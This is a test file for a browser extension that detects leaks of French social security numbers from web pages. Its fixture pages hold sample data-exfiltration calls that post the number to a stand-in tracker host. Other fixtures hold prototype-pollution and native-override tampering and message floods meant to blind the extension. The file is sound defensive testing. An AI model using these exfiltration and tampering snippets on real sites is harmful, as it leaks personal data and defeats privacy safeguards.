/** Pages that are huge, broken or hostile: no crash, nothing silently dropped, nothing let out. */
import {afterAll, afterEach, beforeAll, describe, expect, it} from 'vitest';
import type {Report} from '../../src/core/model.ts';
import {type Browser, openBrowser} from '../rig/browser.ts';
import type {Page} from '../rig/page.ts';
import type {Servers} from '../rig/servers.ts';
import {browsers, extensionOf, form, NIR, rawIn, SPACED, startSite} from './site.ts';
import {expectValid} from './valid.ts';

const many = (count: number): string =>
  Array.from(
    {length: count},
    (_, n) =>
      `<p><label for="c${n}">${n === count - 1 ? 'Numéro de sécurité sociale' : `Ligne ${n}`}</label><input id="c${n}" name="c${n}"></p>`,
  ).join('');
const pages = {
  '/vide': '<p>Rien</p>',
  '/champs': `<form method="post" action="http://portail.test/envoi">${many(5000)}</form>`,
  '/cadres': `<script>for (let n = 0; n < 1000; n += 1) { const f = document.createElement('iframe'); f.srcdoc = '<input name=x' + n + '>'; document.documentElement.append(f); } onload = () => { void fetch('https://suivi.test/c', {method: 'POST', mode: 'no-cors', body: 'nir=${NIR}'}); };</script>${form('http://portail.test/envoi')}`,
  '/piege': `<script>
    Object.prototype.category = 'nir'; Object.prototype.fields = [1]; Array.prototype.map = () => { throw new Error('map'); };
    String.prototype.slice = () => '${NIR}'; JSON.stringify = () => '{}'; Map.prototype.get = () => 'x'; window.MutationObserver = null;
    Element.prototype.closest = () => { throw new Error('closest'); };
    </script><form id="f" method="post" action="http://portail.test/envoi"><input name="action"><input name="method"><input name="parentNode"><label>N° de sécurité sociale <input id="nir" name="nir"></label><button id="envoyer">x</button></form>`,
  '/cache-methodes': `<form id="f" method="post" action="http://portail.test/envoi"><input name="querySelector"><input name="querySelectorAll"><input name="getAttribute"><label>N° de sécurité sociale <input name="nir"></label></form><button form="f" formaction="http://suivi.test/x">x</button>`,
  '/1/85/05/78/999/901/39/x': form('http://portail.test/envoi'),
  [`/d/${NIR}`]: `<title>Dossier ${SPACED}</title><h1>x</h1><form method="post" action="http://portail.test/d/${NIR}?nir=${NIR}"><label>NIR de ${SPACED} <input name="nir_${NIR}" id="${NIR}" value="${NIR}"></label><button>x</button></form>`,
};
const leak = `() => fetch('https://suivi.test/c', {method: 'POST', mode: 'no-cors', body: 'nir=${NIR}'}).then(() => 1)`;
const observed = (rule: string) => (report: Report) =>
  report.findings.some((one) => one.rule === rule && one.category === 'nir' && one.status === 'observed');

describe.each(browsers)('in %s', (name) => {
  let servers: Servers;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    servers = await startSite(pages);
    browser = await openBrowser(name, {extensionDir: extensionOf(name), servers, language: 'fr'});
  });
  afterAll(async () => {
    await browser?.close();
    await servers?.close();
  });
  afterEach(() => page.close());

  /** After whatever a page did, a leak is still told: the extension is alive. */
  const isAlive = async (): Promise<Report> => {
    await page.evaluate(leak);
    return browser.reportWhen(page, 'a leak afterwards', observed('third-party'));
  };

  it('reads the beginning of a body of 200 MB, and counts it as truncated', async () => {
    page = await browser.page('https://portail.test/vide');
    servers.log.clear();
    await page.evaluate(`() => {
      const body = new Uint8Array(200 * 1024 * 1024).fill(120);
      body.set(new TextEncoder().encode('nir=${NIR}&x='));
      return fetch('https://suivi.test/gros', {method: 'POST', mode: 'no-cors', body}).then(() => 1);
    }`);
    const arrived = await servers.log.arrived(({path, complete}) => path === '/gros' && complete, 60_000);
    expect(arrived.length).toBe(200 * 1024 * 1024);
    const report = await browser.reportWhen(page, 'the beginning', observed('third-party'), 60_000);
    expectValid(report);
    expect(report.traffic.truncated).toBe(1);
    await isAlive();
  });

  it.each([
    ['JSON that is none', 'application/json', `'{"a": [1,2, nir: "${NIR}" '`],
    ['a form that is none', 'application/x-www-form-urlencoded', `'%%%=&=&&&nir=${NIR}%'`],
    ['multipart that is none', 'multipart/form-data; boundary=x', `'{"nir":"${NIR}"}'`],
    [
      'text cut inside a character',
      'text/plain',
      `new Uint8Array([...new TextEncoder().encode('nir=${NIR}&nom=L'), 0xc3])`,
    ],
  ])('reads what it can of %s', async (_, type, body) => {
    page = await browser.page('https://portail.test/vide');
    await page.evaluate(
      `() => fetch('https://suivi.test/c', {method: 'POST', headers: {'content-type': '${type}'}, body: ${body}}).then(() => 1)`,
    );
    const report = await browser.reportWhen(page, 'the number', observed('third-party'));
    expect(rawIn(JSON.stringify(report))).toEqual([]);
  });

  it('counts noise as unreadable', async () => {
    page = await browser.page('https://portail.test/vide');
    await page.evaluate(`() => {
      const noise = Uint8Array.from({length: 5000}, (_, n) => (n * 7919 + n * n) % 31);
      return fetch('https://suivi.test/bruit', {method: 'POST', headers: {'content-type': 'application/json'}, body: noise}).then(() => 1);
    }`);
    const report = await browser.reportWhen(
      page,
      'the unreadable send',
      ({traffic}) => traffic.unreadable > 0,
    );
    expect(report.findings).toEqual([]);
    await isAlive();
  });

  it('survives a stream without end', async () => {
    page = await browser.page('https://portail.test/vide');
    servers.log.clear();
    await page.evaluate(`() => {
      let stop; const asked = new AbortController();
      const body = new ReadableStream({pull: (to) => new Promise((done) => setTimeout(() => { to.enqueue(new Uint8Array(65536)); done(); }, 5))});
      void fetch('https://suivi.test/flux', {method: 'POST', mode: 'cors', body, duplex: 'half', signal: asked.signal}).catch(() => 1);
      window.stopStream = () => asked.abort();
    }`);
    // Firefox has no streamed uploads: it sends the words "[object ReadableStream]".
    await servers.log.arrived(
      ({path, length}) => path === '/flux' && length > (name === 'chromium' ? 200_000 : 5),
    );
    await isAlive();
    await page.evaluate('() => { window.stopStream(); }');
    if (name === 'chromium') {
      const report = await browser.reportWhen(
        page,
        'the stream, read in part',
        ({traffic}) => traffic.truncated > 0,
      );
      expect(report.traffic).toMatchObject({truncated: 1, unreadable: 0});
    }
  });

  it('describes a form of 5,000 inputs, the last one too', async () => {
    page = await browser.page('https://portail.test/champs');
    const report = await browser.reportWhen(
      page,
      'the last field',
      ({fields}) => fields.some(({ordinal}) => ordinal === 4999),
      60_000,
    );
    expect(report.fields).toMatchObject([{category: 'nir', ordinal: 4999}]);
    expect(report.findings).toMatchObject([{rule: 'plain-form', category: 'nir'}]);
    await isAlive();
  });

  it('survives a page of 1,000 frames', async () => {
    page = await browser.page();
    // The page is busy for long: it sends by itself once it is loaded, and nobody asks it anything.
    await page.goto('https://portail.test/cadres', {wait: false});
    const both = (report: Report) =>
      report.fields.some(({category}) => category === 'nir') && observed('third-party')(report);
    const report = await browser.reportWhen(page, 'the form among them, and the send', both, 200_000);
    expect(report.findings).toContainEqual(expect.objectContaining({rule: 'plain-form', category: 'nir'}));
  }, 240_000);

  it('is not misled by a page that changes every native', async () => {
    page = await browser.page('http://portail.test/piege');
    await browser.reportWhen(page, 'the form', ({findings}) =>
      findings.some(({rule, category}) => rule === 'plain-form' && category === 'nir'),
    );
    await page.type('#nir', SPACED);
    await page.click('#envoyer');
    const report = await browser.reportWhen(page, 'the send', observed('plain-http'));
    const [leaked] = report.findings.filter(
      ({rule, category}) => rule === 'plain-http' && category === 'nir',
    );
    expect(leaked?.evidence).toMatchObject([{how: 'typed', name: 'nir'}]);
  });

  it('keeps the page’s own words from carrying a number into the report', async () => {
    page = await browser.page(`http://portail.test/d/${NIR}`);
    const report = await browser.reportWhen(page, 'the form', ({fields}) => fields.length > 0);
    const popup = await browser.extensionPage(`popup/index.html?tab=${await browser.tabIdOf(page)}`);
    await popup.waitFor('document.body.dataset.ready');
    const dom = await popup.evaluate<string>('() => document.documentElement.outerHTML');
    await popup.close();
    for (const text of [JSON.stringify(report), dom, await browser.storageDump()])
      expect(rawIn(text)).toEqual([]);
  });

  it('reads a form whose controls hide its methods, and a button outside of it', async () => {
    page = await browser.page('https://portail.test/cache-methodes');
    const to = (host: string) => (report: Report) =>
      report.findings.some(
        ({rule, category, destination}) =>
          rule === 'plain-form' && category === 'nir' && destination === host,
      );
    await browser.reportWhen(
      page,
      'both targets',
      (report) => to('portail.test')(report) && to('suivi.test')(report),
    );
  });

  it('hides a number that the address splits', async () => {
    page = await browser.page('http://portail.test/1/85/05/78/999/901/39/x');
    const report = await browser.reportWhen(page, 'the address', observed('data-in-address'));
    expect(JSON.stringify(report)).not.toMatch(/1\D{1,3}85\D{1,3}05/);
    expect(await browser.storageDump()).not.toMatch(/1\D{1,3}85\D{1,3}05/);
  });

  it('reads a compressed body', async () => {
    page = await browser.page('https://portail.test/vide');
    await page.evaluate(`async () => {
      const packed = new Blob([JSON.stringify({nir: '${NIR}', text: 'ordonnance '.repeat(99)})]).stream().pipeThrough(new CompressionStream('gzip'));
      await fetch('https://suivi.test/gz', {method: 'POST', mode: 'no-cors', body: await new Response(packed).arrayBuffer()});
    }`);
    const report = await browser.reportWhen(page, 'the packed send', observed('third-party'));
    expect(report.findings[0]?.evidence[0]?.encoding).toEqual(['gzip', 'json']);
    expect(report.traffic.unreadable).toBe(0);
  });

  it('counts an encrypted body as unreadable', async () => {
    page = await browser.page('https://portail.test/vide');
    await page.evaluate(`async () => {
      const key = await crypto.subtle.generateKey({name: 'AES-GCM', length: 256}, false, ['encrypt']);
      const body = await crypto.subtle.encrypt({name: 'AES-GCM', iv: new Uint8Array(12)}, key, new TextEncoder().encode('${NIR} '.repeat(99)));
      await fetch('https://suivi.test/aes', {method: 'POST', mode: 'no-cors', body});
    }`);
    const report = await browser.reportWhen(
      page,
      'the unreadable send',
      ({traffic}) => traffic.unreadable === 1,
    );
    expect(report.findings).toEqual([]);
  });

  it('counts a picture, which nobody reads, as read in part', async () => {
    page = await browser.page('https://portail.test/vide');
    await page.evaluate(`async () => {
      const data = new FormData();
      data.set('nom', 'x');
      data.set('photo', new File(['nir ${NIR}'], 'photo.png', {type: 'image/png'}));
      await fetch('https://suivi.test/fichier', {method: 'POST', mode: 'no-cors', body: data});
    }`);
    await browser.reportWhen(page, 'the picture', ({traffic}) => traffic.truncated + traffic.unreadable > 0);
  });

  it('cannot be spoken to by a page', async () => {
    page = await browser.page('https://portail.test/vide');
    const answer = await page.evaluate(`async () => {
      const native = globalThis.chrome?.runtime?.sendMessage ?? globalThis.browser?.runtime?.sendMessage;
      window.postMessage({name: 'visit-restarted', sent: {tabId: 1}}, '*');
      return native === undefined ? 'no way in' : 'a way in';
    }`);
    expect(answer).toBe('no way in');
    await isAlive();
  });

  it('is heard though a page changes what every object inherits', async () => {
    page = await browser.page('https://portail.test/vide');
    await page.evaluate(`async () => {
      // The driver, too, asks what objects inherit: the page is made whole again once it has sent.
      const names = ['get', 'set', 'value', 'toJSON', 'detail', 'relatedTarget', 'kind', 'text', 'read', 'body', 'cancelable', 'writable', 'readable', 'transform', 'flush'];
      const species = Object.getOwnPropertyDescriptor(Promise, Symbol.species);
      const {call, apply, bind} = Function.prototype;
      const fail = () => { throw new Error('mine'); };
      const blob = new Blob([new TextEncoder().encode('nir=${NIR}')]);
      let sent = false;
      try {
        for (const name of names) Object.defineProperty(Object.prototype, name, {__proto__: null, configurable: true, writable: true, value: name === 'body' ? undefined : fail});
        Object.defineProperty(Promise, Symbol.species, {__proto__: null, configurable: true, get: fail});
        Function.prototype.call = Function.prototype.apply = Function.prototype.bind = fail;
        sent = navigator.sendBeacon('https://suivi.test/c', blob);
      } finally {
        for (const name of names) delete Object.prototype[name];
        Object.defineProperty(Promise, Symbol.species, species);
        Function.prototype.call = call; Function.prototype.apply = apply; Function.prototype.bind = bind;
      }
      return sent;
    }`);
    await browser.reportWhen(page, 'the beacon', observed('third-party'));
  });

  it.each([
    [
      'the greeting of the hook, forged',
      `for (let n = 0; n < 100000; n += 1) document.dispatchEvent(new FocusEvent('vitalerte-hello', {cancelable: true, relatedTarget: new EventTarget()}))`,
    ],
    [
      'messages of a web socket',
      `await new Promise((done) => { const s = new WebSocket('wss://suivi.test/direct'); s.onopen = () => { for (let n = 0; n < 100000; n += 1) s.send('x' + n); done(); }; })`,
    ],
    [
      'messages to itself',
      `for (let n = 0; n < 100000; n += 1) postMessage({name: 'bodies-seen', sent: {seen: [], missed: 9}}, '*')`,
    ],
  ])('outlives a flood: %s', async (_, act) => {
    page = await browser.page('https://portail.test/vide');
    await page.evaluate(`async () => { ${act}; return 1; }`);
    await isAlive();
    expect((await browser.storageDump()).length).toBeLessThan(1_000_000);
  });

  it('tells of 500 sends in a burst, each once', async () => {
    page = await browser.page('https://portail.test/vide');
    servers.log.clear();
    await page.evaluate(`async () => {
      await Promise.all(Array.from({length: 500}, (_, n) => fetch('https://suivi.test/r?n=' + n, {method: 'POST', mode: 'no-cors', body: 'nir=${NIR}'})));
    }`);
    expect(servers.log.all.filter(({path, complete}) => path.startsWith('/r?') && complete)).toHaveLength(
      500,
    );
    const report = await browser.reportWhen(page, 'all of them', ({findings}) =>
      findings.some(({rule, count}) => rule === 'third-party' && count === 500),
    );
    expect(report.findings.find(({rule}) => rule === 'third-party')?.evidence).toHaveLength(1);
    expect(report.traffic.thirdParty).toBe(500);
  });
});
